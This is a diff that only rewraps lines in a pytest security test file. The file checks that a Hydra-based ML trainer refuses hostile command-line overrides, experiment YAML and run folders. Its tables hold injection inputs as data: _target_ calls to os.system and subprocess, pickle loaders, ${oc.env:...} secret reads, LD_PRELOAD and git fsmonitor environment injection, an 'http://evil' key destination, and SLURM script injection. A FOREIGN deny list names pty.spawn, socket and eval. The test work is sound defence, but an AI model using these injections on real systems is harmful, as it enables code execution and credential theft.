@@ -1,4 +1,5 @@
-"""A config, an experiment file, a checkpoint or a run folder from a stranger runs nothing, and secrets reach no file."""
+"""A config, an experiment file, a checkpoint or a run folder from a stranger runs nothing, and
+secrets reach no file."""
 
 from __future__ import annotations
 
@@ -55,7 +56,9 @@ def refused(canary, monkeypatch, capsys):
     def ran(*arguments):
         monkeypatch.setattr(sys, "argv", ["trainer", *arguments])
         monkeypatch.setenv("HYDRA_FULL_ERROR", "0")
-        monkeypatch.setattr("trainer.run.run", lambda cfg, signals: pytest.fail(f"not refused: {arguments}"))
+        monkeypatch.setattr(
+            "trainer.run.run", lambda cfg, signals: pytest.fail(f"not refused: {arguments}")
+        )
         with pytest.raises(SystemExit) as end:
             __main__.main()
         said = capsys.readouterr().err
@@ -79,15 +82,30 @@ HOSTILE = {
     # other targets, at every kind of place
     "os.system": (["adapter._target_=os.system", "++adapter.command='touch CANARY'"], ONLY),
     "a subprocess": (["task._target_=subprocess.run", "++task.args=[touch,CANARY]"], ONLY),
-    "torch.load": (["adapter._target_=torch.load", "++adapter.f=x.pt", "++adapter.weights_only=false"], ONLY),
+    "torch.load": (
+        ["adapter._target_=torch.load", "++adapter.f=x.pt", "++adapter.weights_only=false"],
+        ONLY,
+    ),
     "numpy.load": (["adapter._target_=numpy.load", "++adapter.allow_pickle=true"], ONLY),
     "pandas": (["adapter._target_=pandas.read_pickle", "++adapter.filepath_or_buffer=x"], ONLY),
-    "torch's own shell": (["adapter._target_=torch.utils.collect_env.run", "++adapter.command='touch CANARY'"], ONLY),
-    "asyncio's shell": (["adapter._target_=asyncio.create_subprocess_shell", "++adapter.cmd='touch CANARY'"], ONLY),
+    "torch's own shell": (
+        ["adapter._target_=torch.utils.collect_env.run", "++adapter.command='touch CANARY'"],
+        ONLY,
+    ),
+    "asyncio's shell": (
+        ["adapter._target_=asyncio.create_subprocess_shell", "++adapter.cmd='touch CANARY'"],
+        ONLY,
+    ),
     "torch.hub": (["base._target_=torch.hub.load", "++base.source=local"], ONLY),
-    "open": (["callbacks.evaluation._target_=builtins.open", "++callbacks.evaluation.file=CANARY"], ONLY),
+    "open": (
+        ["callbacks.evaluation._target_=builtins.open", "++callbacks.evaluation.file=CANARY"],
+        ONLY,
+    ),
     "write_text": (["+callbacks.own={_target_: pathlib.Path.write_text}"], ONLY),
-    "copyfile": (["logger=wandb", "+logger.own={_target_: shutil.copyfile, src: rows.jsonl, dst: CANARY}"], ONLY),
+    "copyfile": (
+        ["logger=wandb", "+logger.own={_target_: shutil.copyfile, src: rows.jsonl, dst: CANARY}"],
+        ONLY,
+    ),
     "a process": (["objective._target_=multiprocessing.Process"], ONLY),
     "makedirs": (["optimizer._target_=os.makedirs", "++optimizer.name=CANARY"], ONLY),
     "getenv": (["schedule._target_=os.getenv", "++schedule.key=WANDB_API_KEY"], ONLY),
@@ -98,7 +116,10 @@ HOSTILE = {
     "deep in a new node": (["+new={a: [{b: {_target_: os.makedirs, name: CANARY}}]}"], ONLY),
     "within a list": (["task.path=[{_target_: os.makedirs, name: CANARY}]"], ONLY),
     "within a mapping": (["++task.columns={a: {_target_: os.makedirs, name: CANARY}}"], ONLY),
-    "within a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: os.makedirs, name: CANARY}"], ONLY),
+    "within a method's fields": (
+        ["adapter=dora", "++adapter.eva_config={_target_: os.makedirs, name: CANARY}"],
+        ONLY,
+    ),
     "another case": (["optimizer._target_=Torch.optim.AdamW"], ONLY),
     "a space before": (["'optimizer._target_=\\ torch.optim.AdamW'"], None),
     "a quoted space": (["optimizer._target_=' torch.optim.AdamW'"], ONLY),
@@ -110,13 +131,25 @@ HOSTILE = {
     "an assembled target": (["name=makedirs", "adapter._target_=os.${name}"], ONLY),
     # shipped targets elsewhere
     "a base for an adapter": (["adapter._target_=trainer.models.tiny.tiny"], THERE),
-    "a base within a mapping": (["++task.columns={a: {_target_: trainer.models.tiny.tiny}}"], NOWHERE),
-    "a base within a list": (["task=classification", "task.labels=[{_target_: trainer.models.tiny.tiny}]"], NOWHERE),
-    "a base in a method's fields": (["adapter=dora", "++adapter.eva_config={_target_: trainer.models.tiny.tiny}"], NOWHERE),
+    "a base within a mapping": (
+        ["++task.columns={a: {_target_: trainer.models.tiny.tiny}}"],
+        NOWHERE,
+    ),
+    "a base within a list": (
+        ["task=classification", "task.labels=[{_target_: trainer.models.tiny.tiny}]"],
+        NOWHERE,
+    ),
+    "a base in a method's fields": (
+        ["adapter=dora", "++adapter.eva_config={_target_: trainer.models.tiny.tiny}"],
+        NOWHERE,
+    ),
     "a base for a number": (["++seed={_target_: trainer.models.tiny.tiny}"], NOWHERE),
     "a base for Hydra": (["+hydra.callbacks.a={_target_: trainer.models.tiny.tiny}"], ONLY),
     # how things are made
-    "positional arguments": (["++optimizer._args_=[CANARY]"], "positional arguments are not taken from a config"),
+    "positional arguments": (
+        ["++optimizer._args_=[CANARY]"],
+        "positional arguments are not taken from a config",
+    ),
     "not partial": (["objective._partial_=false"], THERE),
     "partial": (["++adapter._partial_=true"], THERE),
     "not recursive": (["++adapter._recursive_=false"], THERE),
@@ -126,42 +159,112 @@ HOSTILE = {
     "a Hydra callback": (["+hydra.callbacks.a={_target_: os.makedirs, name: CANARY}"], ONLY),
     "a launcher": (["hydra.launcher._target_=os.makedirs", "+hydra.launcher.name=CANARY"], ONLY),
     "a sweeper": (["hydra.sweeper._target_=os.makedirs", "--multirun"], ONLY),
-    "a handler": (["hydra.job_logging.handlers.file.class=logging.handlers.SocketHandler"], "Log handlers are one of"),
-    "a formatter's class": (["+hydra.job_logging.formatters.dated.class=os.makedirs"], "Log handlers are one of"),
-    "an object for a handler": (["+hydra.job_logging.handlers.console.stream=ext://os.environ"], "Only ext://sys.stdout"),
-    "a part of the log's config": (["+hydra.job_logging.handlers.console.stream=cfg://handlers.file"], "Only ext://sys.stdout"),
-    "the log in another place": (["hydra.job_logging.handlers.file.filename=CANARY"], "but the log is always"),
+    "a handler": (
+        ["hydra.job_logging.handlers.file.class=logging.handlers.SocketHandler"],
+        "Log handlers are one of",
+    ),
+    "a formatter's class": (
+        ["+hydra.job_logging.formatters.dated.class=os.makedirs"],
+        "Log handlers are one of",
+    ),
+    "an object for a handler": (
+        ["+hydra.job_logging.handlers.console.stream=ext://os.environ"],
+        "Only ext://sys.stdout",
+    ),
+    "a part of the log's config": (
+        ["+hydra.job_logging.handlers.console.stream=cfg://handlers.file"],
+        "Only ext://sys.stdout",
+    ),
+    "the log in another place": (
+        ["hydra.job_logging.handlers.file.filename=CANARY"],
+        "but the log is always",
+    ),
     "the log under another name": (["hydra.job.name=../canary"], "hydra.job.name is '../canary'"),
     "an alias of pickle": (["adapter._target_=torch.serialization.pickle.load"], ONLY),
-    "an alias of os": (["adapter._target_=shutil.os.system", "++adapter.command='touch CANARY'"], ONLY),
-    "the environment": (["adapter._target_=os.environ.update"], ONLY),
-    "a repository's attention": (["base.attn_implementation=evil/kernel"], "Attention is one of transformers' own"),
-    "a repository's attention at a version": (["base.attn_implementation=paged|evil/kernel@main:f"], "Attention is one of"),
-    "a secret for Hydra": (["hydra.run.dir=runs/hf_c4n4ryc4n4ryc4n4ryc4n4ry"], "hydra.run.dir looks like a secret"),
-    "Hydra's log in a file": (
-        ["+hydra.hydra_logging.handlers.a={class: logging.FileHandler, filename: CANARY}"], "but the log is always",
+    "an alias of os": (
+        ["adapter._target_=shutil.os.system", "++adapter.command='touch CANARY'"],
+        ONLY,
     ),
-    "Hydra's files elsewhere": (["hydra.output_subdir=../canary"], "hydra.output_subdir is '../canary'"),
-    "what other programs run": (["+hydra.job.env_set.LD_PRELOAD=CANARY"], "the environment is not set from a config"),
-    "copied secrets": (["hydra.job.env_copy=[WANDB_API_KEY]"], "the environment is not set from a config"),
-    "forged overrides": (["hydra.overrides.task=['a=1']"], "hydra.overrides is what the command line says"),
-    "an imported search path": (["hydra.searchpath=[pkg://stranger]"], "only folders can be searched"),
-    "an interpolated search path": (["hydra.searchpath=['${oc.env:HOME}']"], "only folders can be searched"),
+    "the environment": (["adapter._target_=os.environ.update"], ONLY),
+    "a repository's attention": (
+        ["base.attn_implementation=evil/kernel"],
+        "Attention is one of transformers' own",
+    ),
+    "a repository's attention at a version": (
+        ["base.attn_implementation=paged|evil/kernel@main:f"],
+        "Attention is one of",
+    ),
+    "a secret for Hydra": (
+        ["hydra.run.dir=runs/hf_c4n4ryc4n4ryc4n4ryc4n4ry"],
+        "hydra.run.dir looks like a secret",
+    ),
+    "Hydra's log in a file": (
+        ["+hydra.hydra_logging.handlers.a={class: logging.FileHandler, filename: CANARY}"],
+        "but the log is always",
+    ),
+    "Hydra's files elsewhere": (
+        ["hydra.output_subdir=../canary"],
+        "hydra.output_subdir is '../canary'",
+    ),
+    "what other programs run": (
+        ["+hydra.job.env_set.LD_PRELOAD=CANARY"],
+        "the environment is not set from a config",
+    ),
+    "copied secrets": (
+        ["hydra.job.env_copy=[WANDB_API_KEY]"],
+        "the environment is not set from a config",
+    ),
+    "forged overrides": (
+        ["hydra.overrides.task=['a=1']"],
+        "hydra.overrides is what the command line says",
+    ),
+    "an imported search path": (
+        ["hydra.searchpath=[pkg://stranger]"],
+        "only folders can be searched",
+    ),
+    "an interpolated search path": (
+        ["hydra.searchpath=['${oc.env:HOME}']"],
+        "only folders can be searched",
+    ),
     # resolvers
     "a secret": (["logger=wandb", "logger.wandb.notes=${oc.env:WANDB_API_KEY}"], VARIABLE),
-    "a secret as a default": (["logger=wandb", "logger.wandb.notes='${oc.env:HOME,${oc.env:WANDB_API_KEY}}'"], VARIABLE),
-    "a secret by another name": (["logger=wandb", "logger.wandb.notes='${oc.env:${oc.select:name}}'", "name=HF_TOKEN"], VARIABLE),
-    "a resolver by another name": (["name=env", "logger=wandb", "logger.wandb.notes='${oc.${name}:WANDB_API_KEY}'"], RESOLVER),
-    "a quoted secret": (["logger=wandb", "logger.wandb.notes='${oc.env:\"WANDB_API_KEY\"}'"], VARIABLE),
-    "a spaced secret": (["logger=wandb", "logger.wandb.notes='${ oc.env : WANDB_API_KEY }'"], VARIABLE),
-    "a secret within text": (["logger=wandb", "logger.wandb.notes='a ${name} ${oc.env:HF_TOKEN} b'"], VARIABLE),
+    "a secret as a default": (
+        ["logger=wandb", "logger.wandb.notes='${oc.env:HOME,${oc.env:WANDB_API_KEY}}'"],
+        VARIABLE,
+    ),
+    "a secret by another name": (
+        ["logger=wandb", "logger.wandb.notes='${oc.env:${oc.select:name}}'", "name=HF_TOKEN"],
+        VARIABLE,
+    ),
+    "a resolver by another name": (
+        ["name=env", "logger=wandb", "logger.wandb.notes='${oc.${name}:WANDB_API_KEY}'"],
+        RESOLVER,
+    ),
+    "a quoted secret": (
+        ["logger=wandb", "logger.wandb.notes='${oc.env:\"WANDB_API_KEY\"}'"],
+        VARIABLE,
+    ),
+    "a spaced secret": (
+        ["logger=wandb", "logger.wandb.notes='${ oc.env : WANDB_API_KEY }'"],
+        VARIABLE,
+    ),
+    "a secret within text": (
+        ["logger=wandb", "logger.wandb.notes='a ${name} ${oc.env:HF_TOKEN} b'"],
+        VARIABLE,
+    ),
     "a secret in a folder's name": (["hydra.run.dir='${oc.env:WANDB_API_KEY}'"], VARIABLE),
     "a secret in a deleted key's value": (["~runs='${oc.env:WANDB_API_KEY}'"], None),
-    "oc.create": (["++task.columns='${oc.create:{_target_: os.makedirs, name: CANARY}}'"], RESOLVER),
+    "oc.create": (
+        ["++task.columns='${oc.create:{_target_: os.makedirs, name: CANARY}}'"],
+        RESOLVER,
+    ),
     "oc.decode": (["++task.columns='${oc.decode:\"{_target_: os.makedirs}\"}'"], RESOLVER),
     "oc.dict": (["++task.columns='${oc.dict.values:base}'"], RESOLVER),
     "a resolver there is not": (["runs='${nothing:1}'"], RESOLVER),
-    "half an interpolation": (["++task.columns={a: '${oc.env'}"], "no viable alternative at input '${oc.env'"),
+    "half an interpolation": (
+        ["++task.columns={a: '${oc.env'}"],
+        "no viable alternative at input '${oc.env'",
+    ),
     # paths
     "a file outside conf": (["adapter=../../../stranger"], None),
     "a name that is a path": (["name=../canary"], "name is '../canary'"),
@@ -173,7 +276,7 @@ HOSTILE = {
     "another root": (["--config-name=stranger"], "--config-dir=FOLDER"),
     "a rerun": (["--experimental-rerun=rerun.pickle"], "loads a pickle"),
     "a rerun, abbreviated": (["--exp", "rerun.pickle"], "loads a pickle"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("case", HOSTILE)
@@ -191,70 +294,177 @@ def test_a_hostile_command_line_runs_nothing(refused, canary, case):
     assert len(message.splitlines()) <= 6 or "Available options" in message
 
 
-# Experiment files: (entries of the defaults list, the rest, what is said). CANARY stands for the canary's path.
+# Experiment files: (entries of the defaults list, the rest, what is said). CANARY stands for the
+# canary's path.
 FILES = {
     "a target": ([], "adapter: {_target_: os.makedirs, name: CANARY}", ONLY),
     "a new node": ([], "own: {deep: [{_target_: os.makedirs, name: CANARY}]}", ONLY),
     "positional arguments": ([], "optimizer: {_args_: [CANARY]}", "positional arguments"),
     "an anchor": ([], "own: &a {_target_: os.makedirs, name: CANARY}\ntask: {columns: *a}", ONLY),
-    "a merged anchor": ([], "own: &a {_target_: os.makedirs}\ntask: {columns: {<<: *a, name: CANARY}}", ONLY),
+    "a merged anchor": (
+        [],
+        "own: &a {_target_: os.makedirs}\ntask: {columns: {<<: *a, name: CANARY}}",
+        ONLY,
+    ),
     "a target of bytes": ([], "adapter: {_target_: !!binary b3MubWFrZWRpcnM=}", ONLY),
-    "half an interpolation": ([], "task: {system: '${oc.env'}", "no viable alternative at input '${oc.env'"),
-    "a tag that calls": ([], "own: !!python/object/apply:os.makedirs [CANARY]", "could not determine a constructor"),
-    "a tag that names": ([], "own: !!python/name:os.makedirs ''", "could not determine a constructor"),
-    "a tag that makes": ([], "own: !!python/object/new:os.makedirs [CANARY]", "could not determine a constructor"),
-    "a Hydra callback": ([], "hydra: {callbacks: {a: {_target_: os.makedirs, name: CANARY}}}", ONLY),
-    "a called handler": ([], "hydra: {job_logging: {handlers: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
-    "a called filter": ([], "hydra: {job_logging: {filters: {a: {(): os.makedirs, name: CANARY}}}}", "Log handlers are one of"),
+    "half an interpolation": (
+        [],
+        "task: {system: '${oc.env'}",
+        "no viable alternative at input '${oc.env'",
+    ),
+    "a tag that calls": (
+        [],
+        "own: !!python/object/apply:os.makedirs [CANARY]",
+        "could not determine a constructor",
+    ),
+    "a tag that names": (
+        [],
+        "own: !!python/name:os.makedirs ''",
+        "could not determine a constructor",
+    ),
+    "a tag that makes": (
+        [],
+        "own: !!python/object/new:os.makedirs [CANARY]",
+        "could not determine a constructor",
+    ),
+    "a Hydra callback": (
+        [],
+        "hydra: {callbacks: {a: {_target_: os.makedirs, name: CANARY}}}",
+        ONLY,
+    ),
+    "a called handler": (
+        [],
+        "hydra: {job_logging: {handlers: {a: {(): os.makedirs, name: CANARY}}}}",
+        "Log handlers are one of",
+    ),
+    "a called filter": (
+        [],
+        "hydra: {job_logging: {filters: {a: {(): os.makedirs, name: CANARY}}}}",
+        "Log handlers are one of",
+    ),
     "a handler's attribute": (
-        [], "hydra: {job_logging: {handlers: {file: {delay: true, '.': {baseFilename: CANARY}}}}}", "Log handlers are one of",
+        [],
+        "hydra: {job_logging: {handlers: {file: {delay: true, '.': {baseFilename: CANARY}}}}}",
+        "Log handlers are one of",
     ),
     "a log that is a shell's file": (
-        [], "hydra: {job_logging: {formatters: {dated: {format: 'ls # %(message)s'}}, handlers: {file: {filename: CANARY}}}}",
+        [],
+        (
+            "hydra: {job_logging: {formatters: {dated: {format: 'ls # %(message)s'}}, handlers:"
+            " {file: {filename: CANARY}}}}"
+        ),
         "but the log is always",
     ),
     "what git runs": (
-        [], "hydra: {job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor, GIT_CONFIG_VALUE_0: touch CANARY}}}",
+        [],
+        (
+            "hydra: {job: {env_set: {GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: core.fsmonitor,"
+            " GIT_CONFIG_VALUE_0: touch CANARY}}}"
+        ),
         "the environment is not set from a config",
     ),
-    "where a key is sent": ([], "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil'}}}", "the environment is not set from a config"),
-    "a search path": ([], "hydra: {searchpath: ['pkg://stranger']}", "hydra.searchpath is only supported from the primary config"),
-    "forged overrides": ([], "hydra: {overrides: {task: ['base.trust_remote_code=true']}}", "hydra.overrides is what the command line"),
-    "a forged choice": ([], "hydra: {runtime: {choices: {adapter: full}}}\nadapter: {_target_: os.makedirs}", ONLY),
-    "a model's own code": (
-        ["override /base: hf"], "base: {path: a/b, trust_remote_code: true}", "is taken from the command line only",
+    "where a key is sent": (
+        [],
+        "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil'}}}",
+        "the environment is not set from a config",
     ),
-    "a file outside conf": (["override /adapter: ../harmless"], "", "adapter=../harmless: conf/adapter has adalora,"),
+    "a search path": (
+        [],
+        "hydra: {searchpath: ['pkg://stranger']}",
+        "hydra.searchpath is only supported from the primary config",
+    ),
+    "forged overrides": (
+        [],
+        "hydra: {overrides: {task: ['base.trust_remote_code=true']}}",
+        "hydra.overrides is what the command line",
+    ),
+    "a forged choice": (
+        [],
+        "hydra: {runtime: {choices: {adapter: full}}}\nadapter: {_target_: os.makedirs}",
+        ONLY,
+    ),
+    "a model's own code": (
+        ["override /base: hf"],
+        "base: {path: a/b, trust_remote_code: true}",
+        "is taken from the command line only",
+    ),
+    "a file outside conf": (
+        ["override /adapter: ../harmless"],
+        "",
+        "adapter=../harmless: conf/adapter has adalora,",
+    ),
     "a method of its own": (["override /adapter: stranger"], "", ONLY),
-    "a harmless method of its own": (["override /adapter: harmless"], "", "adapter=harmless: conf/adapter has adalora,"),
+    "a harmless method of its own": (
+        ["override /adapter: harmless"],
+        "",
+        "adapter=harmless: conf/adapter has adalora,",
+    ),
     "a launcher of its own": (["override /hydra/launcher: stranger"], "", ONLY),
     "a base for Hydra": (["/base@hydra.callbacks.a: tiny"], "", ONLY),
     "a base within a task": (["/base@task.columns.a: tiny"], "", NOWHERE),
     "an interpolated secret": ([], "task: {system: '${oc.env:WANDB_API_KEY}'}", VARIABLE),
-    "a job's shell": (["override /hydra/launcher: slurm"], "hydra: {launcher: {setup: ['touch CANARY']}}", "runs commands"),
-    "a job's Python": (["override /hydra/launcher: slurm"], "hydra: {launcher: {python: /tmp/evil}}", "runs commands"),
+    "a job's shell": (
+        ["override /hydra/launcher: slurm"],
+        "hydra: {launcher: {setup: ['touch CANARY']}}",
+        "runs commands",
+    ),
+    "a job's Python": (
+        ["override /hydra/launcher: slurm"],
+        "hydra: {launcher: {python: /tmp/evil}}",
+        "runs commands",
+    ),
     "a job's further options": (
-        ["override /hydra/launcher: slurm"], "hydra: {launcher: {additional_parameters: {wrap: 'touch CANARY'}}}", "runs commands",
+        ["override /hydra/launcher: slurm"],
+        "hydra: {launcher: {additional_parameters: {wrap: 'touch CANARY'}}}",
+        "runs commands",
     ),
     "a line of the job's script": (
-        ["override /hydra/launcher: slurm"], 'hydra: {launcher: {partition: "a\\n#SBATCH --wrap=x"}}', "a line of its own would be one",
+        ["override /hydra/launcher: slurm"],
+        'hydra: {launcher: {partition: "a\\n#SBATCH --wrap=x"}}',
+        "a line of its own would be one",
     ),
-    "options of srun": (["override /hydra/launcher: slurm"], "hydra: {launcher: {srun_args: ['--prolog=x']}}", "runs commands"),
-    "a repository's attention": ([], "base: {attn_implementation: evil/kernel}", "Attention is one of transformers' own"),
+    "options of srun": (
+        ["override /hydra/launcher: slurm"],
+        "hydra: {launcher: {srun_args: ['--prolog=x']}}",
+        "runs commands",
+    ),
+    "a repository's attention": (
+        [],
+        "base: {attn_implementation: evil/kernel}",
+        "Attention is one of transformers' own",
+    ),
     "aliases of aliases": (
-        [], "own: [" + ", ".join(["&a0 [x]", *(f"&a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 40))]) + "]",
+        [],
+        "own: ["
+        + ", ".join(
+            ["&a0 [x]", *(f"&a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 40))]
+        )
+        + "]",
         "has more than 10,000 values",
     ),
     "an alias of itself": ([], "own: &a {a: *a}", "stands within itself"),
     "a deep one": ([], f"own: {'[' * 3000}{']' * 3000}", "nested more than 64 levels"),
     "a long one": ([], f"own: {'x' * (1 << 20)}", "at most 1,048,576 are read"),
     "texts of texts": (
-        [], "own: {x0: " + "x" * 99 + ", " + ", ".join(f"x{i}: '{'${own.x' + str(i - 1) + '}' * 3}'" for i in range(1, 30)) + "}",
+        [],
+        "own: {x0: "
+        + "x" * 99
+        + ", "
+        + ", ".join(f"x{i}: '{'${own.x' + str(i - 1) + '}' * 3}'" for i in range(1, 30))
+        + "}",
         None,
     ),
-    "an address with a password": ([], "task: {system: 'see https://me:hunter2@host/x'}", "looks like a secret"),
-    "a hidden sweep": ([], "hydra: {mode: MULTIRUN, sweeper: {params: {adapter._target_: os.makedirs}}}", ONLY),
-}  # fmt: skip
+    "an address with a password": (
+        [],
+        "task: {system: 'see https://me:hunter2@host/x'}",
+        "looks like a secret",
+    ),
+    "a hidden sweep": (
+        [],
+        "hydra: {mode: MULTIRUN, sweeper: {params: {adapter._target_: os.makedirs}}}",
+        ONLY,
+    ),
+}
 
 
 @pytest.mark.parametrize("case", FILES)
@@ -265,7 +475,15 @@ def test_a_strangers_experiment_runs_nothing(refused, canary, case):
         (folder / name).mkdir(parents=True)
     if "override /base: hf" not in defaults:
         defaults = [*defaults, "override /base: tiny"]
-    text = "\n".join(["# @package _global_", "defaults:", *(f"  - {entry}" for entry in defaults), "max_length: 256", body])
+    text = "\n".join(
+        [
+            "# @package _global_",
+            "defaults:",
+            *(f"  - {entry}" for entry in defaults),
+            "max_length: 256",
+            body,
+        ]
+    )
     (folder / "experiment" / "evil.yaml").write_text(text.replace("CANARY", str(canary)))
     for name in ("adapter/stranger", "hydra/launcher/stranger", "stranger"):
         (folder / f"{name}.yaml").write_text(f"_target_: os.makedirs\nname: {canary}\n")
@@ -275,32 +493,114 @@ def test_a_strangers_experiment_runs_nothing(refused, canary, case):
     assert said is None or said in message
 
 
-# What an import would find, and what it could do: files, processes, code, pickles, the network, other models.
+# What an import would find, and what it could do: files, processes, code, pickles, the network,
+# other models.
 FOREIGN = (
-    "builtins.eval", "builtins.exec", "builtins.__import__", "builtins.compile", "importlib.import_module", "runpy.run_path",
-    "code.interact", "pty.spawn", "ctypes.CDLL", "webbrowser.open", "site.addsitedir", "cProfile.run", "timeit.timeit",
-    "pydoc.pipepager", "os.popen", "os.execv", "os.remove", "shutil.rmtree", "subprocess.Popen", "subprocess.getoutput",
-    "pickle.loads", "pickle.load", "marshal.loads", "shelve.open", "zipfile.ZipFile", "tarfile.open", "yaml.unsafe_load",
-    "socket.create_connection", "urllib.request.urlopen", "smtplib.SMTP", "functools.partial", "operator.methodcaller",
-    "operator.attrgetter", "hydra.utils.instantiate", "hydra.utils.call", "hydra.utils.get_method", "hydra.utils.get_class",
-    "hydra._internal.utils._locate", "hydra._internal.instantiate._instantiate2.instantiate", "omegaconf.OmegaConf.load",
-    "omegaconf.OmegaConf.register_new_resolver", "torch.jit.load", "torch.ops.load_library",
-    "torch.hub.download_url_to_file", "torch.utils.cpp_extension.load_inline", "torch.serialization.load",
-    "torch.package.PackageImporter", "transformers.AutoModel.from_pretrained", "transformers.pipeline",
-    "peft.PeftModel.from_pretrained", "transformers.dynamic_module_utils.get_class_from_dynamic_module",
-    "lightning.pytorch.LightningModule.load_from_checkpoint", "lightning.pytorch.cli.LightningCLI", "datasets.load_dataset",
-    "datasets.load_from_disk", "huggingface_hub.snapshot_download", "huggingface_hub.upload_folder",
-    "wandb.Artifact.download", "trainer.exporting.formats.export", "trainer.config.compose.install", "trainer.storage.run_folder.RunFolder",
-    "trainer.storage.checkpoints.remove", "trainer.models.base.Base", "trainer.models.gguf.converted", "trainer.models.hub.from_hub.__globals__",
-    "tasks.wheel.fetch", "tasks.wheel.forget", "adapters.io.write", "adapters.io.os.system", "trainer.models.base.os.system",
-    "trainer.run.run", "torch.optim.AdamW.__init__", "torch.optim._multi_tensor.AdamW", "TORCH.OPTIM.ADAMW",
-    "torch.optim.AdamW\x00", "torch.optim.AdamW/", "torch..optim.AdamW", ".torch.optim.AdamW",
-)  # fmt: skip
+    "builtins.eval",
+    "builtins.exec",
+    "builtins.__import__",
+    "builtins.compile",
+    "importlib.import_module",
+    "runpy.run_path",
+    "code.interact",
+    "pty.spawn",
+    "ctypes.CDLL",
+    "webbrowser.open",
+    "site.addsitedir",
+    "cProfile.run",
+    "timeit.timeit",
+    "pydoc.pipepager",
+    "os.popen",
+    "os.execv",
+    "os.remove",
+    "shutil.rmtree",
+    "subprocess.Popen",
+    "subprocess.getoutput",
+    "pickle.loads",
+    "pickle.load",
+    "marshal.loads",
+    "shelve.open",
+    "zipfile.ZipFile",
+    "tarfile.open",
+    "yaml.unsafe_load",
+    "socket.create_connection",
+    "urllib.request.urlopen",
+    "smtplib.SMTP",
+    "functools.partial",
+    "operator.methodcaller",
+    "operator.attrgetter",
+    "hydra.utils.instantiate",
+    "hydra.utils.call",
+    "hydra.utils.get_method",
+    "hydra.utils.get_class",
+    "hydra._internal.utils._locate",
+    "hydra._internal.instantiate._instantiate2.instantiate",
+    "omegaconf.OmegaConf.load",
+    "omegaconf.OmegaConf.register_new_resolver",
+    "torch.jit.load",
+    "torch.ops.load_library",
+    "torch.hub.download_url_to_file",
+    "torch.utils.cpp_extension.load_inline",
+    "torch.serialization.load",
+    "torch.package.PackageImporter",
+    "transformers.AutoModel.from_pretrained",
+    "transformers.pipeline",
+    "peft.PeftModel.from_pretrained",
+    "transformers.dynamic_module_utils.get_class_from_dynamic_module",
+    "lightning.pytorch.LightningModule.load_from_checkpoint",
+    "lightning.pytorch.cli.LightningCLI",
+    "datasets.load_dataset",
+    "datasets.load_from_disk",
+    "huggingface_hub.snapshot_download",
+    "huggingface_hub.upload_folder",
+    "wandb.Artifact.download",
+    "trainer.exporting.formats.export",
+    "trainer.config.compose.install",
+    "trainer.storage.run_folder.RunFolder",
+    "trainer.storage.checkpoints.remove",
+    "trainer.models.base.Base",
+    "trainer.models.gguf.converted",
+    "trainer.models.hub.from_hub.__globals__",
+    "tasks.wheel.fetch",
+    "tasks.wheel.forget",
+    "adapters.io.write",
+    "adapters.io.os.system",
+    "trainer.models.base.os.system",
+    "trainer.run.run",
+    "torch.optim.AdamW.__init__",
+    "torch.optim._multi_tensor.AdamW",
+    "TORCH.OPTIM.ADAMW",
+    "torch.optim.AdamW\x00",
+    "torch.optim.AdamW/",
+    "torch..optim.AdamW",
+    ".torch.optim.AdamW",
+)
 EVERYWHERE = (
-    "adapter", "base", "task", "optimizer", "schedule", "objective", "penalty", "drafter", "branch", "target", "callbacks.evaluation",
-    "logger.own", "lightning.strategy", "lightning.plugins", "own", "own.deep.er", "hydra.launcher", "hydra.sweeper", "hydra.callbacks.own",
-    "hydra.job", "hydra.job_logging.handlers.own", "hydra.hydra_logging.handlers.own", "hydra.help", "hydra.runtime",
-)  # fmt: skip
+    "adapter",
+    "base",
+    "task",
+    "optimizer",
+    "schedule",
+    "objective",
+    "penalty",
+    "drafter",
+    "branch",
+    "target",
+    "callbacks.evaluation",
+    "logger.own",
+    "lightning.strategy",
+    "lightning.plugins",
+    "own",
+    "own.deep.er",
+    "hydra.launcher",
+    "hydra.sweeper",
+    "hydra.callbacks.own",
+    "hydra.job",
+    "hydra.job_logging.handlers.own",
+    "hydra.hydra_logging.handlers.own",
+    "hydra.help",
+    "hydra.runtime",
+)
 
 
 GOOD = {}  # a config that is refused nothing
@@ -311,7 +611,11 @@ def test_nothing_foreign_is_made_anywhere(compose, place):
     if not GOOD:
         GOOD.update(OmegaConf.to_container(compose(*COMMON)))
         check(OmegaConf.create(GOOD))
-    good = {key: GOOD[key] for key in ("adapter", "base", "hydra", "task")} if place == "adapter" else GOOD
+    good = (
+        {key: GOOD[key] for key in ("adapter", "base", "hydra", "task")}
+        if place == "adapter"
+        else GOOD
+    )
     targets = FOREIGN if place == "adapter" else FOREIGN[:1]
     if place.startswith("hydra"):
         targets = [*targets, "trainer.models.tiny.tiny", "adapters.lora.LoRAAdapter"]
@@ -325,8 +629,18 @@ def test_nothing_foreign_is_made_anywhere(compose, place):
 
 def test_a_file_may_ask_for_little_and_gets_it(compose, canary):
     """What a refusal is worth is seen by what is not refused."""
-    assert compose(*COMMON, "base=hf", "base.path=a/b", "base.trust_remote_code=true").base.trust_remote_code is True
-    cfg = compose(*COMMON, "hydra.job_logging.handlers.console.show_time=true", "hydra.run.dir=elsewhere", "hydra.verbose=true")
+    assert (
+        compose(
+            *COMMON, "base=hf", "base.path=a/b", "base.trust_remote_code=true"
+        ).base.trust_remote_code
+        is True
+    )
+    cfg = compose(
+        *COMMON,
+        "hydra.job_logging.handlers.console.show_time=true",
+        "hydra.run.dir=elsewhere",
+        "hydra.verbose=true",
+    )
     assert cfg.hydra.run.dir == "elsewhere"
 
 
@@ -349,13 +663,21 @@ def kept(tmp_path_factory):
 def folder(train, chats, kept, tmp_path):
     """Changes a run folder's run.yaml at the given places, and returns it."""
     if not kept.exists():
-        shutil.copytree(train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), kept)
+        shutil.copytree(
+            train(f"task.path={chats}", "max_steps=1", "callbacks.evaluation=null"), kept
+        )
     path = shutil.copytree(kept, tmp_path / "strange")
 
     def changed(**parts):
         content = yaml.safe_load((path / "run.yaml").read_text())
         for place, value in parts.items():
